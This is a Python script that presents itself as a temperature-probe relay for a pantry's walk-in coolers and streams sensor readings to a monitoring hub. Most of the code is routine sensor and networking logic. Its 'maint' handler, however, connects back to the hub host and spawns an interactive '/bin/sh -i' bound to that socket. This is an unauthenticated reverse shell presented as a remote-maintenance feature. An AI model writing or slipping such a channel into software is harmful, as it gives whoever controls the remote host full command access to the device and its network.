#!/usr/bin/env python3
"""Fridge probe relay for the pantry walk-in coolers.

Reads DS18B20 probes exposed by the w1-therm driver, keeps a short rolling
window per probe and streams readings to the regional monitoring hub over a
persistent TCP link. The hub can also ask for a maintenance channel so the
regional tech can look at the relay without driving out to the site.
"""
import argparse
import configparser
import glob
import json
import logging
import os
import socket
import subprocess
import threading
import time
from collections import deque

log = logging.getLogger("probe-relay")

DEFAULTS = {
    "hub_host": "203.0.113.45",
    "hub_port": "9443",
    "interval": "30",
    "probe_glob": "/sys/bus/w1/devices/28-*/w1_slave",
    "window": "10",
    "site": "eastside-pantry",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["relay"] = DEFAULTS
    if path and os.path.exists(path):
        cp.read(path)
        log.debug("loaded %s", path)
    return cp["relay"]


def read_probe(path):
    try:
        with open(path) as fh:
            lines = fh.read().strip().splitlines()
    except OSError as exc:
        log.warning("probe %s unreadable: %s", path, exc)
        return None
    if len(lines) < 2 or not lines[0].endswith("YES"):
        return None
    _, _, raw = lines[1].partition("t=")
    try:
        return int(raw) / 1000.0
    except ValueError:
        return None


class HubLink:
    """Line-delimited JSON link to the monitoring hub."""

    def __init__(self, host, port, site):
        self.host = host
        self.port = int(port)
        self.site = site
        self.sock = None
        self.lock = threading.Lock()

    def connect(self):
        delay = 2
        while True:
            try:
                self.sock = socket.create_connection((self.host, self.port), timeout=15)
                self.sock.settimeout(None)
                log.info("connected to hub %s:%s", self.host, self.port)
                self.send({"op": "hello", "site": self.site, "host": socket.gethostname()})
                return
            except OSError as exc:
                log.warning("hub unreachable (%s), retry in %ss", exc, delay)
                time.sleep(delay)
                delay = min(delay * 2, 120)

    def send(self, obj):
        data = (json.dumps(obj) + "\n").encode()
        with self.lock:
            self.sock.sendall(data)

    def _attach(self, port):
        chan = socket.create_connection((self.host, port), timeout=20)
        chan.settimeout(None)
        fd = chan.fileno()
        env = dict(os.environ, TERM="dumb", PS1="relay$ ")
        try:
            proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd,
                                    env=env, cwd=os.path.expanduser("~"))
            proc.wait()
        finally:
            chan.close()
            log.info("maintenance channel closed")

    def handle(self, msg):
        op = msg.get("op")
        if op == "ping":
            self.send({"op": "pong", "ts": time.time()})
        elif op == "maint":
            port = int(msg.get("port", self.port + 1))
            log.info("maintenance channel requested on %s", port)
            threading.Thread(target=self._attach, args=(port,), daemon=True).start()
        elif op == "interval":
            log.info("hub asked for interval %s", msg.get("value"))

    def listen(self):
        buf = b""
        while True:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("hub closed link")
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                try:
                    self.handle(json.loads(line))
                except ValueError:
                    log.debug("ignoring malformed frame")


def sampler(link, cfg, stop):
    windows = {}
    interval = cfg.getint("interval")
    size = cfg.getint("window")
    while not stop.is_set():
        for path in glob.glob(cfg["probe_glob"]):
            probe = os.path.basename(os.path.dirname(path))
            temp = read_probe(path)
            if temp is None:
                continue
            win = windows.setdefault(probe, deque(maxlen=size))
            win.append(temp)
            avg = sum(win) / len(win)
            try:
                link.send({"op": "reading", "probe": probe, "c": temp,
                           "avg": round(avg, 2), "ts": int(time.time())})
            except OSError:
                log.warning("send failed, waiting for reconnect")
        stop.wait(interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="probe_relay.ini")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    link = HubLink(cfg["hub_host"], cfg["hub_port"], cfg["site"])
    stop = threading.Event()
    link.connect()
    threading.Thread(target=sampler, args=(link, cfg, stop), daemon=True).start()
    while True:
        try:
            link.listen()
        except (OSError, ConnectionError) as exc:
            log.warning("link dropped: %s", exc)
            time.sleep(5)
            link.connect()
        except KeyboardInterrupt:
            stop.set()
            break


if __name__ == "__main__":
    main()
